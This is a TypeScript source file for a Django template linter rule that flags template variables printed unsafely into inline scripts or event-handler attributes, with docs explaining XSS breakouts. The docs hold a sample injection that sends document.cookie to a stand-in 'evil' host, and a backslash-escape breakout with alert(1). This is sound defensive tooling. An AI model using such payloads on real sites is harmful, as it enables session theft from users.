import type { TemplateRuleContext } from '../../templates/context';
import type { TemplateNode } from '../../templates/document';
import { attributeOf, literalValue, type HtmlAttribute, type RawTextElement, type VarContext } from '../../templates/html-scanner';
import { javascriptStates, JsState, scanHandler, scanScript, type ScriptCode } from '../../templates/script-scan';
import { tagArgument, tagBits } from '../../templates/tag-arguments';
import { WHICH_TEMPLATES_DOC } from '../../templates/template-files';
import { printedValue, severityFor, worse, type JudgedExpression, type ValueJudgement } from '../../templates/template-values';
import { fittedMessage, originClause, TEMPLATE_VALUES_DOC } from '../../templates/value-docs';
import { lineStarts, positionAt } from '../../text';
import type { Finding, Fix } from '../../types';
import type { TemplateRule } from '../rule';
import { JsonScriptIds, jsonScriptEdits, jsonScriptMove, type JsonScriptMove } from './json-script-fix';

/** Script types a browser runs as JavaScript (the HTML standard's JavaScript MIME types, plus module). */
const JAVASCRIPT_TYPES = new Set([
  '',
  'module',
  'application/ecmascript',
  'application/javascript',
  'application/x-ecmascript',
  'application/x-javascript',
  'text/ecmascript',
  'text/javascript',
  'text/javascript1.0',
  'text/javascript1.1',
  'text/javascript1.2',
  'text/javascript1.3',
  'text/javascript1.4',
  'text/javascript1.5',
  'text/jscript',
  'text/livescript',
  'text/x-ecmascript',
  'text/x-javascript',
]);

/** Whether a script element's body runs as JavaScript; undefined when its type is computed. */
export function runsAsJavaScript(element: RawTextElement): boolean | undefined {
  const type = attributeOf(element.tag, 'type');
  if (!type) return true;
  const value = type.quote === undefined ? '' : literalValue(type);
  if (value === undefined) return undefined;
  return JAVASCRIPT_TYPES.has(value.trim().toLowerCase());
}

/** Event-handler attributes (`onclick`, `onmouseover`, …): their value is JavaScript. */
const EVENT_HANDLER = /^on[a-z]+$/;

/** Whether a variable is printed where the browser runs it as JavaScript: an inline script, or an event-handler attribute. */
export function inJavaScript(where: VarContext): boolean {
  return (where.kind === 'script' && runsAsJavaScript(where.element) === true) || (where.kind === 'attribute-value' && EVENT_HANDLER.test(where.attribute.name));
}

/** A code sink a string is given to: its whole text runs as JavaScript. */
const CODE_SINK = /(?:\beval|\bset(?:Timeout|Interval)|\bFunction|\bexecScript)\s*\(\s*$/;
/** A URL sink: a `javascript:` URL there runs as code, so the string's start matters. */
const URL_SINK =
  /(?:\blocation(?:\.href)?\s*=|\.(?:href|src|action|formAction)\s*=|\blocation\.(?:assign|replace)\s*\(|\bwindow\.open\s*\(|\bimport\s*\(|\bfrom|\bimport|\$\.getScript\s*\(|\.setAttribute\s*\(\s*["'](?:href|src|action|formaction)["']\s*,)\s*$/;

/** Where in the JavaScript a value lands, and what can break out of it. */
type Position =
  /** Outside any string (or in a template literal, comment or regular expression, which the value can end): any text in it is code. */
  | { kind: 'code'; state: JsState }
  /** Inside a '…' or "…" string literal of an inline script. */
  | { kind: 'quoted'; state: JsState; script: ScriptCode; element: RawTextElement; offset: number }
  /** In an event-handler attribute, which the browser decodes before running it. */
  | { kind: 'handler'; quoted: boolean; attribute: string };

/** How a message names the place of a value outside any string. */
const CODE_PLACES: Partial<Record<JsState, string>> = {
  [JsState.Code]: 'runs as code in a <script>',
  [JsState.TemplateLiteral]: 'is in a template literal, where ${…} runs',
  [JsState.Comment]: 'is in a script comment a newline ends',
  [JsState.Regex]: 'is in a script regex a / in it ends',
};

/** DJH306: `{{ value }}` inside `<script>`: HTML escaping does not make it safe JavaScript. */
export const variableInScript: TemplateRule = {
  meta: {
    code: 'DJH306',
    name: 'variable-in-script',
    severity: 'warning',
    scope: 'template',
    summary: 'A `{{ variable }}` that can carry text is printed as code in an inline `<script>` or an event-handler attribute (`onclick`), where HTML escaping does not protect it.',
    fix: 'unsafe',
    djangoChecks: [],
  },
  docs: `## What it does
Reports a template variable printed inside an inline \`<script>\` element that runs as JavaScript (no \`type\`, a JavaScript type, or \`module\`), or inside an event-handler attribute such as \`onclick="…"\`, where the value can change the code. \`{% firstof %}\` and \`{% cycle %}\` in a script are judged like variables. Scripts that hold data or client-side templates (\`type="application/json"\`, \`type="text/template"\`) are not judged.

Where the value lands decides what Django's escaping is worth:

- **Outside a string** (\`var n = {{ count }};\`, \`init({{ config }})\`), and in a template literal, comment or regular expression, which a value can end (\`\${…}\`, a line break, \`*/\`, \`/\`): any text in the value runs as code. Reported.
- **Inside a quoted string** (\`var name = "{{ user.name }}";\`): Django escapes \`'\`, \`"\`, \`<\`, \`>\` and \`&\`, so the value cannot end the string or the script. It is not reported, except: when \`|safe\` or \`{% autoescape off %}\` removes that escaping; when the string is run as code (\`eval\`, \`setTimeout\`) or is a URL the script opens (\`location.href = "{{ next }}"\`: a \`javascript:\` URL runs); and when another variable that can carry text sits later on the same line in another string. Django leaves backslashes alone, so a value ending in \`\\\` escapes its closing quote and the string runs on to the next quote, which puts the next variable outside any string: \`f('{{ a }}', '{{ b }}')\` with \`a = "\\"\` and \`b = ");alert(1)//"\`. Two variables in one string (\`'{{ a }}{{ b }}'\`) cannot do that, and a string cannot run past the end of its line, so variables on different lines cannot either. \`|escapejs\` escapes backslashes too: a quoted \`{{ value|escapejs }}\` is never reported.
- **In an event-handler attribute**: the browser decodes \`&#x27;\` back to \`'\` before it runs the handler, so the escaping does not hold even inside quotes; only \`|escapejs\` in a quoted string does.

The severity says how much the template shows about the value: **warning** when it holds request data or stored user data, **info** when the template does not show where it comes from (a number from the view is fine; a name typed by a user is not), **silent** when it cannot carry text an attacker chose. \`|safe\` on a variable printed as JavaScript is reported here once, with both reasons (not also by DJH303). A backslash breakout needs both values, so it is a warning only when both hold request or user data. The values of unknown origin that one script prints as code (a chart's numbers, as a rule) make one info finding, at the first of them, listing the others as related locations; its fix moves them all to json_script. \`{# noqa: DJH306 #}\` on a line leaves that line's values out of it.

${TEMPLATE_VALUES_DOC}

${WHICH_TEMPLATES_DOC} Text templates are not judged.

## Why is this bad
Django escapes for HTML, not for JavaScript. Outside quotes, \`{{ value }}\` is code: \`var n = {{ n }};\` with \`n = "1; fetch('//evil/?'+document.cookie)"\` sends the user's cookies away. Escaped characters also come out as \`&quot;\` and \`&#x27;\` in the data.

## Example
\`\`\`html
<script>
  const total = {{ order.total }};                 {# info: code position, origin unknown #}
  const query = {{ request.GET.q|safe }};          {# warning: request data, unescaped #}
  show('{{ user.first_name }}', '{{ request.GET.title }}');  {# warning: a backslash ending the name breaks out #}
  const rows = {{ rows|length }};                  {# not reported: a number #}
  const label = "{{ label }}";                     {# not reported: escaped, alone on its line #}
</script>
\`\`\`

## Use instead
\`\`\`html
{{ order.total|json_script:"order-total-data" }}
<script>
  const total = JSON.parse(document.getElementById("order-total-data").textContent);
</script>
\`\`\`
and for a handler, a data attribute the script reads:
\`\`\`html
<button data-name="{{ product.name }}" onclick="buy(this.dataset.name)">Buy</button>
\`\`\`

## Fix safety
Unsafe, offered only where the variable is a whole JavaScript expression outside any string in an inline script, outside any \`{% for %}\` loop and with no \`|safe\` or escaping filter: \`{{ value|json_script:"…" }}\` goes before the \`<script>\` tag and the variable becomes \`JSON.parse(document.getElementById("…").textContent)\`. Numbers, booleans and plain strings reach the script as the same values; a value the view had already turned into JavaScript source (a JSON string printed as an object) arrives as that string instead, so the view must pass the object. No fix otherwise: a handler needs a data attribute, and a value inside a string needs the string rebuilt.

## References
- [Django: the json_script filter](https://docs.djangoproject.com/en/stable/ref/templates/builtins/#json-script)
- [Django: the escapejs filter](https://docs.djangoproject.com/en/stable/ref/templates/builtins/#escapejs)
- [OWASP: XSS prevention, JavaScript contexts](https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html)
`,
  triggers: [/<script/i, /\son[a-z]+\s*=/i],
  check(ctx) {
    const findings: Finding[] = [];
    const scripts = new Map<RawTextElement, ScriptCode>();
    const handlers = new Map<HtmlAttribute, ReturnType<typeof scanHandler>>();
    const judgements = new Map<TemplateNode, JudgedExpression | undefined>();
    const judge = (node: TemplateNode): JudgedExpression | undefined => {
      if (!judgements.has(node)) judgements.set(node, judgeNode(ctx, node));
      return judgements.get(node);
    };
    const scriptOf = (element: RawTextElement) => {
      let code = scripts.get(element);
      if (!code) {
        code = scanScript(ctx.text, element);
        scripts.set(element, code);
      }
      return code;
    };
    const candidates: { node: TemplateNode; where: VarContext }[] = [];
    for (const [node, where] of ctx.html.vars) if (inJavaScript(where)) candidates.push({ node, where });
    for (const element of ctx.html.scripts) {
      if (runsAsJavaScript(element) !== true) continue;
      for (const node of element.nodes) {
        if (node.role === 'block' && (node.tag === 'firstof' || node.tag === 'cycle') && !/\sas\s/.test(node.contents)) candidates.push({ node, where: { kind: 'script', element } });
      }
    }
    /** Whether a variable sits inside a quoted JavaScript string, in a script or a handler. */
    const quotedAt = (node: TemplateNode, where: VarContext): boolean => {
      let state: number | undefined;
      if (where.kind === 'script') {
        const script = scriptOf(where.element);
        state = script.states[node.start - script.start];
      } else if (where.kind === 'attribute-value') {
        let handler = handlers.get(where.attribute);
        if (!handler) {
          handler = scanHandler(where.attribute);
          handlers.set(where.attribute, handler);
        }
        state = handler.states[handler.at.get(node) ?? -1];
      }
      return state === JsState.SingleQuoted || state === JsState.DoubleQuoted;
    };
    /** Values of unknown origin printed as code, by script: reported once per script. */
    const groups = new Map<RawTextElement, TemplateNode[]>();
    const breakoutLines = new Set<string>();
    for (const { node, where } of candidates) {
      // `|escapejs` last: nothing it prints can end a quoted string. Only a string tells it apart from code, so judge the rest.
      if (node.role === 'var' && ctx.expressionOf(node)?.filters.at(-1)?.name === 'escapejs' && quotedAt(node, where)) continue;
      const judged = judge(node);
      if (!judged) continue;
      const autoescape = ctx.scopes.autoescape(ctx.scopes.scopeOf(node));
      const value = printedValue(judged.value, autoescape);
      if (value.trust === 'safe') continue;
      let position: Position;
      if (where.kind === 'script') {
        const script = scriptOf(where.element);
        const offset = node.start - script.start;
        const state = script.states[offset] as JsState;
        position = state === JsState.SingleQuoted || state === JsState.DoubleQuoted ? { kind: 'quoted', state, script, element: where.element, offset } : { kind: 'code', state };
      } else if (where.kind === 'attribute-value') {
        let handler = handlers.get(where.attribute);
        if (!handler) {
          handler = scanHandler(where.attribute);
          handlers.set(where.attribute, handler);
        }
        const state = handler.states[handler.at.get(node) ?? -1];
        position = { kind: 'handler', quoted: state === JsState.SingleQuoted || state === JsState.DoubleQuoted, attribute: where.attribute.name };
      } else continue;
      const verdict = judgePosition(ctx, node, value, judged, position, judge);
      if (!verdict) continue;
      const severity = severityFor(verdict.trust);
      if (!severity) continue;
      // Worked out only now, and once: it may read the project's code.
      if (ctx.notHtmlTemplate) return [];
      if (verdict.breakoutLine !== undefined) {
        // The first pair of a line is enough: the same backslash chains through the rest.
        const key = `${where.kind === 'script' ? where.element.bodyStart : 0}:${verdict.breakoutLine}`;
        if (breakoutLines.has(key)) continue;
        breakoutLines.add(key);
      }
      if (where.kind === 'script' && position.kind === 'code' && severity === 'info' && !judged.safeMark) {
        if (ctx.silencedAt(node.start)) continue;
        const group = groups.get(where.element) ?? [];
        group.push(node);
        groups.set(where.element, group);
        continue;
      }
      const fixes: Fix[] = [];
      if (position.kind === 'code' && position.state === JsState.Code && where.kind === 'script' && node.role === 'var') {
        const move = jsonScriptMove(ctx, node, where.element, scriptOf(where.element));
        if (move) fixes.push(ctx.fix(`Pass ${nameOf(ctx, node)} to the script with json_script`, jsonScriptEdits(ctx.text, [move])));
      }
      findings.push(ctx.finding(node.start, node.end, verdict.message, { severity, fixes }));
    }
    for (const [element, nodes] of groups) findings.push(groupFinding(ctx, element, scriptOf(element), nodes));
    return findings;
  },
};

/** The most values one fix moves to json_script: a fix is read before it is applied. */
const MAX_MOVES = 50;

/**
 * One info finding for the values of unknown origin a script prints as code: a chart's
 * numbers are the usual case, and a finding each would bury the rest. It points at the
 * first and lists the others; its fix moves every one it can to json_script.
 */
function groupFinding(ctx: TemplateRuleContext, element: RawTextElement, script: ScriptCode, nodes: TemplateNode[]): Finding {
  const first = nodes[0];
  const ids = new JsonScriptIds(ctx.text);
  const moves: JsonScriptMove[] = [];
  for (const node of nodes) {
    if (moves.length >= MAX_MOVES) break;
    if (node.role !== 'var' || script.states[node.start - script.start] !== JsState.Code) continue;
    const move = jsonScriptMove(ctx, node, element, script, ids);
    if (move) moves.push(move);
  }
  const names = namesOf(ctx, first);
  const others = nodes.length - 1;
  const message =
    others === 0
      ? fittedMessage(
          names,
          (name) => `${name} ${CODE_PLACES[script.states[first.start - script.start] as JsState] ?? CODE_PLACES[JsState.Code]}; the template does not show its source.`,
          'Any text in it can become JavaScript, whatever Django escapes: pass it with json_script, or make sure the view gives a number.',
        )
      : fittedMessage(
          names,
          (name) => `${name} and ${others} more run as code in a <script>; the template does not show their source.`,
          'Any text in them becomes JavaScript, whatever Django escapes: pass them with json_script, or make sure the view gives numbers.',
        );
  const name = nameOf(ctx, first);
  const related = nodes.slice(1).map((node) => ({ file: ctx.file, range: ctx.doc.range(node.start, node.end), message: `also printed as code: {{ ${node.contents} }}` }));
  const fixes =
    moves.length === 0
      ? []
      : [
          ctx.fix(
            moves.length === 1 && others === 0 ? `Pass ${name} to the script with json_script` : `Pass ${moves.length} value${moves.length === 1 ? '' : 's'} to the script with json_script`,
            jsonScriptEdits(ctx.text, moves),
          ),
        ];
  return ctx.finding(first.start, first.end, message, { severity: 'info', fixes, related });
}

/** The expression a variable prints, or a `{% firstof %}`/`{% cycle %}` tag's arguments, judged together. */
function judgeNode(ctx: TemplateRuleContext, node: TemplateNode): JudgedExpression | undefined {
  if (node.role === 'var') {
    const expression = ctx.expressionOf(node);
    return expression ? ctx.judge(expression, node) : undefined;
  }
  let result: JudgedExpression | undefined;
  for (const bit of tagBits(node, ctx.text).slice(1)) {
    const argument = tagArgument(bit);
    if (!argument) continue;
    const judged = ctx.judge(argument.expression, node);
    result = result ? { value: worse(result.value, judged.value), safeMark: result.safeMark ?? judged.safeMark } : judged;
  }
  return result;
}

interface Verdict {
  trust: ValueJudgement['trust'];
  message: string;
  /** For a backslash breakout: the script line, so a line's chain is reported once. */
  breakoutLine?: number;
}

/** Names of a variable for a message's first sentence, fullest first: the whole expression, its variable, "this variable". */
function namesOf(ctx: TemplateRuleContext, node: TemplateNode): string[] {
  if (node.role !== 'var') return [`{% ${node.tag} %}`];
  const head = ctx.expressionOf(node)?.head.text;
  return [...new Set([`{{ ${node.contents} }}`, ...(head ? [`{{ ${head} }}`] : []), 'this variable'])];
}

/** A short name of a variable for fix titles and related locations. */
function nameOf(ctx: TemplateRuleContext, node: TemplateNode): string {
  const names = namesOf(ctx, node);
  return names.find((name) => name.length <= 30) ?? names[names.length - 1];
}

/** The finding for a value at a position, or undefined when escaping holds there. */
function judgePosition(
  ctx: TemplateRuleContext,
  node: TemplateNode,
  value: ValueJudgement,
  judged: JudgedExpression,
  position: Position,
  judge: (node: TemplateNode) => JudgedExpression | undefined,
): Verdict | undefined {
  const mark = judged.safeMark?.filter.name;
  // A message that names the marking filter names the variable without it.
  const names = mark ? namesOf(ctx, node).slice(1) : namesOf(ctx, node);
  const origin = originClause(value.trust, value.why);
  const verdict = (first: (name: string) => string, rest: string): Verdict => ({ trust: value.trust, message: fittedMessage(names, first, rest) });
  if (position.kind === 'handler') {
    if (position.quoted && value.escaped === 'js') return undefined;
    return verdict(
      (name) => `${name} runs as code in the ${position.attribute} attribute${origin}`,
      "The browser decodes HTML escapes such as &#x27; back to quotes before it runs the handler, so Django's escaping does not protect it; pass the value in a data- attribute the code reads, or through |escapejs inside a quoted string.",
    );
  }
  if (position.kind === 'code') {
    const advice = position.state === JsState.Code ? 'pass it with json_script (the fix), or make sure the view gives a number' : 'pass it with json_script and read it in the script';
    const place = CODE_PLACES[position.state] ?? CODE_PLACES[JsState.Code];
    return verdict(
      (name) => (mark ? `|${mark} leaves ${name} unescaped in a <script>${origin}` : `${name} ${place}${origin}`),
      `Any text in it can become JavaScript, whatever Django escapes: ${advice}.`,
    );
  }
  if (value.escaped === 'js') return undefined;
  if (value.escaped === 'none') {
    return verdict(
      (name) => `${mark ? `|${mark} leaves ${name}` : `${name} is`} unescaped in a script string${origin}`,
      'A quote in it ends the string and the rest runs as code: drop |safe (or the autoescape off around it) and pass the value with json_script or |escapejs.',
    );
  }
  const { script, offset, state } = position;
  const facts = factsOf(script, position.element);
  const quote = state === JsState.SingleQuoted ? "'" : '"';
  const open = facts.stringStart[offset];
  const lineStart = offset - positionAt(script.code, offset, facts.lineStarts).character;
  // What the string is given to: the code just before its opening quote, on its line.
  const before = script.code.slice(Math.max(lineStart, open - 1 - SINK_WINDOW), Math.max(lineStart, open - 1));
  if (CODE_SINK.test(before)) {
    return verdict((name) => `${name} is in a string the script runs as code${origin}`, 'Escaping keeps quotes out, not code: pass the value with json_script and keep it out of eval() and timers.');
  }
  // An escaped value cannot end the string, but it can be the whole URL: `javascript:` needs no quote.
  if (open === offset && URL_SINK.test(before)) {
    return verdict(
      (name) => `${name} starts a URL the script opens${origin}`,
      'A javascript: URL runs as code although Django escaped it; check the scheme in the view (url_has_allowed_host_and_scheme).',
    );
  }
  const partner = breakoutPartner(script, facts, node, quote, judge);
  if (!partner) return undefined;
  // The breakout needs both values: it is only as certain as the less certain of them.
  const trust = value.trust === 'unknown' || partner.value.trust === 'unknown' ? 'unknown' : value.trust;
  const partnerName = nameOf(ctx, partner.node);
  return {
    trust,
    breakoutLine: lineStart,
    message: fittedMessage(
      [...names.filter((name) => name.length <= 30), 'one value'],
      (name) => `A backslash ending ${name} would let ${partnerName} on its line run as code.`,
      "Django's escaping leaves backslashes alone, so \\ at the end of the first value escapes its closing quote and the second value lands outside any string; escape the first with |escapejs, or pass both with json_script.",
    ),
  };
}

/** How far before a string's opening quote its sink is looked for, and how far past a value a breakout is followed. */
const SINK_WINDOW = 200;
const BREAKOUT_WINDOW = 4000;
/** How many later variables of the line a breakout is followed to: the next string over is where it lands. */
const BREAKOUT_PARTNERS = 8;

/** What the quoted-position checks read of a script, worked out once per script in one pass each. */
interface ScriptFacts {
  /** For each offset inside a string: where that string's text starts. */
  stringStart: Int32Array;
  /** Where each line of the script's code starts (text.ts's line model). */
  lineStarts: readonly number[];
  /** The script's variables in order, and the index of each. */
  vars: TemplateNode[];
  indexOf: Map<TemplateNode, number>;
}

const scriptFacts = new WeakMap<ScriptCode, ScriptFacts>();

function factsOf(script: ScriptCode, element: RawTextElement): ScriptFacts {
  let facts = scriptFacts.get(script);
  if (facts) return facts;
  const { code, states } = script;
  const stringStart = new Int32Array(code.length);
  for (let i = 0; i < code.length; i++) {
    const state = states[i];
    const quoted = state === JsState.SingleQuoted || state === JsState.DoubleQuoted;
    stringStart[i] = quoted && i > 0 && states[i - 1] === state ? stringStart[i - 1] : i;
  }
  const vars = element.nodes.filter((node) => node.role === 'var');
  facts = { stringStart, lineStarts: lineStarts(code), vars, indexOf: new Map(vars.map((node, index) => [node, index])) };
  scriptFacts.set(script, facts);
  return facts;
}

/**
 * Another variable later on the same line that a backslash at the end of this one would
 * put outside any string: the line is read again as JavaScript with this value ending in
 * `\`. Strings cannot span lines, so nothing past the line can be reached; a very long line
 * is read for BREAKOUT_WINDOW characters past the value, and up to BREAKOUT_PARTNERS variables.
 */
function breakoutPartner(
  script: ScriptCode,
  facts: ScriptFacts,
  node: TemplateNode,
  quote: string,
  judge: (node: TemplateNode) => JudgedExpression | undefined,
): { node: TemplateNode; value: ValueJudgement } | undefined {
  const end = node.end - script.start;
  const { line } = positionAt(script.code, end, facts.lineStarts);
  const next = line + 1 < facts.lineStarts.length ? facts.lineStarts[line + 1] - 1 : script.code.length;
  const lineEnd = Math.min(next, end + BREAKOUT_WINDOW);
  const later: TemplateNode[] = [];
  for (let i = (facts.indexOf.get(node) ?? facts.vars.length) + 1; i < facts.vars.length && facts.vars[i].start - script.start < lineEnd && later.length < BREAKOUT_PARTNERS; i++)
    later.push(facts.vars[i]);
  if (later.length === 0) return undefined;
  // The string as it reads when the value ends in a backslash: the quote, the backslash, then the line up to the last partner.
  const states = javascriptStates(`${quote}\\${script.code.slice(end, later[later.length - 1].start - script.start + 1)}`);
  for (const other of later) {
    const at = 2 + other.start - script.start - end;
    if (states[at] !== JsState.Code && states[at] !== JsState.TemplateLiteral) continue;
    const judged = judge(other);
    if (!judged || judged.value.trust === 'safe') continue;
    return { node: other, value: judged.value };
  }
  return undefined;
}
